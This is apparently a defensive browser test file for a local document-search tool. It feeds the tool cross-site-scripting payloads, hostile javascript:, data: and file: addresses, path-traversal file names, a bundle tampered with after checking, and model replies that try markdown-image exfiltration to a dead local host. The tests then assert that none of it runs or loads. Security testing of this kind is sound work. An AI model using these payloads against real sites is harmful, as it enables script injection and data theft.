// Script in everything that strangers write: documents of every kind, their names and addresses, triples, a
// model's replies, and a bundle whose addresses were changed after the program had checked them. Nothing of
// it may run or load anything, with the page's policy and without any: the policy is the second line, and
// must not be what holds the first.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, beforeEach, test } from "node:test";
import { gunzipSync, gzipSync } from "node:zlib";
import { ask, harness, HIT, hitsShown, opened, openMap, part, useLlm, watchedPage } from "./harness.mjs";

/** Nobody listens there: what asks it is seen by the browser's own record of requests. */
const STRANGER = "http://127.0.0.1:9";

/** Ways to have script run or something loaded; `${n}` tells which it was. */
const ATTACKS = [
  (n) => `<img src=x onerror="ran('${n}')">`,
  (n) => `"><svg/onload="ran('${n}')">`,
  (n) => `<script>ran('${n}')</script>`,
  (n) => `'"--></title></style></textarea></script><svg onload="ran('${n}')">`,
  (n) => `<iframe srcdoc="<script>parent.ran('${n}')</script>"></iframe>`,
  (n) => `<math><mtext></form><form><mglyph><style></math><img src onerror="ran('${n}')">`,
  (n) => `<img src=${STRANGER}/${n}>`,
  (n) => `<link rel=stylesheet href=${STRANGER}/${n}><style>@import '${STRANGER}/${n}'</style>`,
  (n) => `<details open ontoggle="ran('${n}')"><object data="javascript:ran('${n}')"></object>`,
  (n) => `<base href=${STRANGER}/><meta http-equiv=refresh content="0;url=javascript:ran('${n}')">`,
  (n) => `&lt;img src=x onerror="ran('${n}')"&gt;`,
  (n) => `\${ran('${n}')}{{constructor.constructor("ran('${n}')")()}}`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=ran('${n}')>">`,
];

/** Addresses that lead to script, to files, or out of an attribute. */
const ADDRESSES = [
  "javascript:ran('u')",
  " javascript:ran('u')",
  "java\nscript:ran('u')",
  "java\tscript:ran('u')",
  "JaVaScRiPt:ran('u')",
  "\u0001javascript:ran('u')",
  "data:text/html,<script>parent.ran('u')</script>",
  "vbscript:ran",
  "https:javascript:ran('u')",
  `${STRANGER}/u" onclick="ran('u')`,
  `#" onfocus=ran('u') autofocus x="`,
  "javascript&colon;ran('u')",
  "file:///etc/passwd",
  "blob:http://x/y",
  "../../../etc/passwd",
];

const REPLIES = [
  ...ATTACKS.slice(0, 8).map((attack, i) => `The keyword graph ${attack(`reply ${i}`)} [1].`),
  `![picture](${STRANGER}/picture?q=secret) [1]`,
  `[click](javascript:ran('reply')) [ok](${STRANGER}/link) <${STRANGER}/auto> ${STRANGER}/bare`,
  `[1]: ${STRANGER}/reference\n[x][1] ![y][1] [^1] [1](javascript:ran(1)) [[1]](data:text/html,x)`,
  `<think>[1]</think> <tool_call>{"name":"fetch","arguments":{"url":"${STRANGER}/tool"}}</tool_call> ` +
    `<search>${STRANGER}/search</search>`,
  `| a | ![](${STRANGER}/table) |\n|-|-|\n| <b onclick=ran(1)>b</b> | [1] |`,
];

/** Writes the documents and triples, and builds them. */
function buildHostile(scratch) {
  const docs = join(scratch, "docs");
  mkdirSync(docs);
  const write = (name, text) => writeFileSync(join(docs, name), text);
  const quoted = JSON.stringify;
  ATTACKS.forEach((attack, i) => {
    const a = attack(`document ${i}`);
    const line = a.replace(/[\n|]/g, " ");
    write(
      `m${i}.md`,
      `---\ntitle: ${quoted(a)}\ntags: [${quoted(a)}]\nauthor: ${quoted(a)}\n---\n\n# ${a} keyword ` +
        `graph\n\nThe keyword graph ${a} is number ${i}. \`${a}\`\n\n` +
        `\`\`\`html\n${a}\n\`\`\`\n\n| keyword | graph |\n|-|-|\n| ${line} | b ` +
        `|\n\n[keyword](javascript:ran('m')) ![graph](javascript:ran('m')) [x](<${line}>)\n\n## ${a} ` +
        `{#${i}}\n\nMara Kestrel wrote ${a}.\n`,
    );
    const text = a.replace(/</g, "&lt;");
    write(
      `h${i}.html`,
      `<html><head><title>${text}</title></head><body><h1 id="${text.replace(/"/g, "")}">${text} keyword ` +
        `graph</h1><p>The keyword graph ${text} stands here. ${a}</p><pre>${text}</pre></body></html>`,
    );
    write(
      `r${i}.rst`,
      `${line}\n${"=".repeat(line.length)}\n\nA keyword graph ${line} stands here.\n\n\`a ` +
        `<javascript:ran('r')>\`_\n`,
    );
    write(`a${i}.adoc`, `= ${line}\n\nA keyword graph ${line} stands here. link:javascript:ran('a')[k]\n`);
    write(`t${i}.txt`, `${a}\n\nA keyword graph ${a} stands here.\n`);
  });
  ADDRESSES.forEach((address, i) => {
    write(
      `u${i}.md`,
      `---\nurl: ${quoted(address)}\nslug: ${quoted(address)}\ntitle: address ${i}\n---\n\nThe keyword ` +
        `graph of address ${i} stands here.\n`,
    );
  });
  for (const name of [
    `<img src=x onerror=ran('name')>.md`,
    `"onmouseover="ran('name').md`,
    "javascript:ran('name').md",
    "..%2f..%2fx.md",
    "a'b\"c.md",
    "\u202egpj.md",
  ]) {
    try {
      write(name, "# A file's name\n\nThe keyword graph of the file's name stands here.\n");
    } catch (error) {
      // Not every system has such names.
      if (!["ENOENT", "EINVAL"].includes(error.code)) throw error;
    }
  }
  const triples = ATTACKS.flatMap((attack, i) => {
    const a = attack(`triple ${i}`).replace(/\s/g, " ");
    return [
      `${a}\tdirected by\tMara ${a}`,
      `The Silent Orchard\t${a}\t${a}`,
      `The Silent Orchard\tdirected by\t${a}`,
    ];
  });
  writeFileSync(join(scratch, "films.tsv"), `${triples.join("\n")}\n`);
  const args = [
    "build",
    docs,
    "-o",
    join(scratch, "hostile"),
    "--kg",
    join(scratch, "films.tsv"),
    "--no-runtime",
    "--no-cache",
    "-q",
  ];
  execFileSync(process.env.POCKETGRAPH_PROGRAM, args, { stdio: "pipe" });
}

const sha256 = (bytes) => createHash("sha256").update(bytes).digest("hex");

/**
 * A bundle of documents whose addresses are changed, behind the program's back, to hostile ones of the same
 * length; all hashes are made right.
 */
function buildForged(scratch) {
  const docs = join(scratch, "forged-docs");
  mkdirSync(docs);
  const harmless = ADDRESSES.map((address, i) =>
    `https://a.test/${String(i).padStart(2, "0")}`.padEnd(Buffer.byteLength(address), "x"),
  );
  // Shorter ones end in spaces, which addresses may have around them.
  const hostile = ADDRESSES.map((address, i) => address.padEnd(harmless[i].length, " "));
  harmless.forEach((url, i) =>
    writeFileSync(
      join(docs, `d${i}.md`),
      `---\nurl: ${url}\n---\n\n# Address ${i}\n\nThe keyword graph of address ${i} stands here.\n`,
    ),
  );
  const bundle = join(scratch, "forged");
  execFileSync(
    process.env.POCKETGRAPH_PROGRAM,
    ["build", docs, "-o", bundle, "--no-runtime", "--no-cache", "-q"],
    { stdio: "pipe" },
  );
  const { pocketgraph: content } = JSON.parse(readFileSync(join(bundle, "manifest.json"), "utf8"));
  const section = content.sections.find(({ name }) => name === "documents");
  const raw = gunzipSync(
    section.inline ? Buffer.from(section.inline, "hex") : readFileSync(join(bundle, section.file)),
  );
  delete section.inline;
  harmless.forEach((url, i) => {
    const at = raw.indexOf(url);
    assert.ok(at > 0, `${url} stands in the section`);
    assert.equal(Buffer.byteLength(hostile[i]), url.length);
    raw.write(hostile[i], at);
  });
  const stored = gzipSync(raw);
  const hash = sha256(stored);
  Object.assign(section, { file: `documents-${hash.slice(0, 20)}.pgs`, bytes: stored.length, sha256: hash });
  writeFileSync(join(bundle, section.file), stored);
  writeFileSync(
    join(bundle, "manifest.json"),
    JSON.stringify({ pocketgraph: content, sha256: sha256(JSON.stringify(content)) }),
  );
}

const scratch = mkdtempSync(join(tmpdir(), "pocketgraph-xss-"));
after(() => rmSync(scratch, { recursive: true, force: true }));
const t = harness(({ site }) => {
  buildHostile(scratch);
  buildForged(scratch);
  site.mounts.set("/hostile/", join(scratch, "hostile"));
  site.mounts.set("/forged/", join(scratch, "forged"));
});
let strict;
beforeEach(() => {
  strict ??= t.site.policy;
  t.site.policy = strict;
  Object.assign(t.llm, { behaviour: "stream", text: "", script: [], bears: true });
});

/**
 * A page that notes whatever runs, loads or opens. Without the policy, neither the server nor the page's own
 * element states one.
 */
async function watched({ policy, path = "" }) {
  t.site.policy = policy ? strict : "";
  const page = await watchedPage(t.browser);
  const seen = (page.seen = { ran: [], dialogs: [], foreign: new Set(), suspect: new Set(), looked: 0 });
  await page.exposeFunction("noteRun", (what) => seen.ran.push(what));
  await page.addInitScript(() => {
    window.ran = (what) => (window.top ?? window).noteRun(String(what));
  });
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    dialog.dismiss();
  });
  page.context().on("request", (request) => {
    const url = request.url();
    if (![t.site.url, t.llm.url, "data:"].some((start) => url.startsWith(start)))
      seen.foreign.add(`${request.resourceType()} ${url}`);
  });
  if (!policy) {
    await page.route(
      (url) => url.pathname === "/",
      async (route) => {
        const response = await route.fetch();
        const text = await response.text();
        const without = text.replace(/<meta[^>]*Content-Security-Policy[^>]*>/, "");
        assert.notEqual(without, text, "the page states a policy of its own");
        await route.fulfill({ response, body: without });
      },
    );
  }
  await page.goto(t.site.url + path);
  return page;
}

/** What neither the page nor the component ever makes. */
const FOREIGN_ELEMENTS = [
  "script",
  "iframe",
  "object",
  "embed",
  "img",
  "base",
  "meta",
  "link",
  "style",
  "math",
  "video",
  "audio",
];

/** Looks through the whole document, shadow trees among it, for what runs script or leads elsewhere. */
async function look(page, where) {
  const suspect = await page.evaluate((foreign) => {
    const found = [];
    const walk = (root) => {
      for (const node of root.querySelectorAll("*")) {
        const tag = node.localName;
        if (foreign.includes(tag)) found.push(`<${tag}>`);
        for (const { name, value } of node.attributes) {
          if (/^on/i.test(name)) found.push(`${tag} ${name}`);
          if (
            /^(href|src|action|formaction|data|xlink:href|srcdoc)$/i.test(name) &&
            /^[\s\u0000-\u0020]*(javascript|data|vbscript|blob|file):/i.test(value) &&
            !value.startsWith("data:image/")
          )
            found.push(`${tag} ${name}=${value}`);
        }
        if (tag === "a" && node.href && !/^https?:$/.test(node.protocol))
          found.push(`a leads to ${node.protocol}`);
        if (node.shadowRoot) walk(node.shadowRoot);
      }
    };
    walk(document.body);
    return found;
  }, FOREIGN_ELEMENTS);
  page.seen.looked += 1;
  for (const one of suspect) page.seen.suspect.add(`${where}: ${one}`);
}

/** What can be opened in an answer without leaving the page. */
const ANSWER = `${part("answer")} :is(button, summary, [part~="citation"], [role="button"])`;

/** Opens the passages of the best `most` hits, looking around after each. */
async function openPassages(page, most, where) {
  const chunks = await page
    .locator(HIT)
    .evaluateAll((all) => all.map(({ dataset }) => Number(dataset.chunk)));
  for (const chunk of chunks.slice(0, most)) {
    await page.evaluate((chunk) => document.querySelector("pocketgraph-ask").openPassage(chunk), chunk);
    assert.ok(await page.locator(part("passage-body")).isVisible());
    await look(page, where);
    await page.keyboard.press("Escape");
  }
  return Math.min(most, chunks.length);
}

/** Unfolds the map and the way to the answer, where there is one. */
async function unfold(page) {
  if (await page.locator("#map:not([open])").count()) await openMap(page);
  const way = page.locator(`${part("way")}:not([open]) > summary`);
  if (await way.count()) await way.click();
}

/** Clicks up to `most` of what `selector` names, looking around after each. */
async function clickAll(page, selector, most, where) {
  const all = page.locator(selector);
  const count = Math.min(most, await all.count());
  for (let i = 0; i < count; i++) {
    // What was clicked before may have taken it away. Given to the element itself: a pointer would meet
    // another one, such as a link that leads elsewhere, where the answer is chosen anew meanwhile.
    await all
      .nth(i)
      .dispatchEvent("click", undefined, { timeout: 700 })
      .catch(() => {});
    await look(page, where);
    if (await page.locator("dialog[open]").count()) await page.keyboard.press("Escape");
  }
  return count;
}

function assertNothingRan(page) {
  const { ran, dialogs, foreign, suspect } = page.seen;
  assert.deepEqual(
    { ran, dialogs, foreign: [...foreign], suspect: [...suspect] },
    { ran: [], dialogs: [], foreign: [], suspect: [] },
  );
}

const QUESTIONS = [
  "keyword graph",
  "keyword graph of address",
  "the file's name",
  "who directed The Silent Orchard?",
  "Mara Kestrel",
  `${ATTACKS[0]("question")} keyword graph`,
];

/** The settled answer to a question, whatever it is. */
async function settled(page) {
  await page.waitForFunction(() => window.part("actions") && window.part("answer").ariaBusy !== "true");
}

for (const policy of [true, false]) {
  const how = policy ? "with the page's policy" : "without any policy";

  test(`hostile documents, names, triples and replies run nothing in the page, ${how}`, async () => {
    const page = await watched({ policy, path: `?bundle=${encodeURIComponent(`${t.site.url}hostile/`)}` });
    await opened(page);
    await look(page, "welcome");
    let count = 0;
    for (const question of QUESTIONS) {
      await ask(page, question);
      await settled(page);
      await look(page, question);
      count += await openPassages(page, 6, `${question}: passage`);
      await unfold(page);
      count += await clickAll(page, "#graph .node", 5, `${question}: node`);
      count += await clickAll(page, ANSWER, 5, `${question}: answer`);
    }
    assert.ok(count > 30, `${count} things were opened`);

    await useLlm(page, t.llm);
    let written = 0;
    for (const reply of REPLIES) {
      t.llm.text = reply;
      const before = t.llm.requests.length;
      await ask(page, `keyword graph ${before}`);
      for (let i = 0; i < 400 && t.llm.requests.length === before; i++) await page.waitForTimeout(50);
      // A reply that no passage bears out is not shown at all.
      const shown = await page.waitForFunction(() => {
        if (window.part("answer")?.ariaBusy === "true") return false;
        if (window.parts("answer-note").some((note) => note.textContent.startsWith("Written")))
          return "written";
        return document.querySelector("#trouble").hidden === false && "refused";
      });
      written += (await shown.jsonValue()) === "written";
      await look(page, `reply ${reply}`);
      assert.ok(t.llm.requests.length > before);
    }
    assert.ok(written > REPLIES.length / 2, `${written} replies were shown`);
    const protocols = await page
      .locator("#llm-protocol option")
      .evaluateAll((all) => all.map(({ value }) => value).filter((value) => value && value !== "quote"));
    assert.ok(protocols.length > 5);
    t.llm.text = REPLIES.join("\n\n");
    for (const protocol of protocols) {
      await useLlm(page, t.llm, { protocol });
      await ask(page, `who directed the keyword graph? ${protocol}`);
      await settled(page);
      await clickAll(page, `${part("answer")} summary`, 3, protocol);
      await look(page, protocol);
    }
    assertNothingRan(page);
    if (policy)
      assert.deepEqual(await page.evaluate(() => window.violations), [], "nothing is left to the policy");
    await page.context().close();
  });

  test(`addresses that were forged in a bundle lead nowhere, ${how}`, async () => {
    const page = await watched({ policy, path: `?bundle=${encodeURIComponent(`${t.site.url}forged/`)}` });
    await opened(page);
    for (const question of ["keyword graph of address", ...ADDRESSES.map((_, i) => `address ${i}`)]) {
      await ask(page, question);
      await hitsShown(page);
      await settled(page);
      await look(page, question);
      await openPassages(page, 2, question);
    }
    const leading = await page.evaluate(
      async ([url, addresses]) => {
        const { PocketGraph } = await import("/pkg/pocketgraph.js");
        const graph = await PocketGraph.open(url);
        const { hits } = await graph.search("keyword graph of address", { k: 30 });
        await graph.close();
        return hits.filter((hit) => addresses.includes(hit.url?.trim() ?? "")).length;
      },
      [`${t.site.url}forged/`, ADDRESSES.map((address) => address.trim())],
    );
    assert.ok(leading > 5, `the hostile addresses are in the bundle: ${leading}`);
    assertNothingRan(page);
    await page.context().close();
  });

  test(`hostile documents and replies run nothing in the component, ${how}`, async () => {
    const page = await watched({ policy, path: "icon.svg" });
    await page.goto(`${t.site.url}pkg/package-files.json`);
    await page.evaluate(async (src) => {
      document.body.replaceChildren();
      await import("/pkg/ask-element.js");
      const element = document.createElement("pocketgraph-ask");
      element.setAttribute("src", src);
      document.body.append(element);
    }, `${t.site.url}hostile/`);
    for (const question of QUESTIONS) {
      await page.evaluate((question) => document.querySelector("pocketgraph-ask").ask(question), question);
      await look(page, question);
    }
    for (const reply of REPLIES) {
      t.llm.text = reply;
      await page.evaluate(async (baseUrl) => {
        const element = document.querySelector("pocketgraph-ask");
        element.llm = { baseUrl, model: "<img src=x onerror=ran('model')>" };
        await element.ask("keyword graph");
      }, t.llm.url);
      await look(page, reply);
    }
    assert.ok(page.seen.looked >= QUESTIONS.length + REPLIES.length);
    assertNothingRan(page);
    await page.context().close();
  });
}

test("nothing but the site and the model's endpoint is asked for anything", async () => {
  const page = await watched({
    policy: false,
    path: `?bundle=${encodeURIComponent(`${t.site.url}hostile/`)}`,
  });
  await opened(page);
  await ask(page, "keyword graph");
  await hitsShown(page);
  await settled(page);
  assert.deepEqual([...page.seen.foreign], []);
  // The record itself works.
  await page.evaluate((url) => fetch(`${url}/probe`).catch(() => {}), STRANGER);
  assert.equal(page.seen.foreign.size, 1);
  // And so does the trap for script.
  await page.evaluate(() => {
    document
      .querySelector("main")
      .insertAdjacentHTML("beforeend", `<img src="data:," onerror="ran('probe')">`);
  });
  await page.waitForFunction(() => document.querySelector("main img"));
  await look(page, "probe");
  assert.deepEqual(page.seen.ran, ["probe"]);
  assert.ok(page.seen.suspect.size > 0);
  await page.context().close();
});
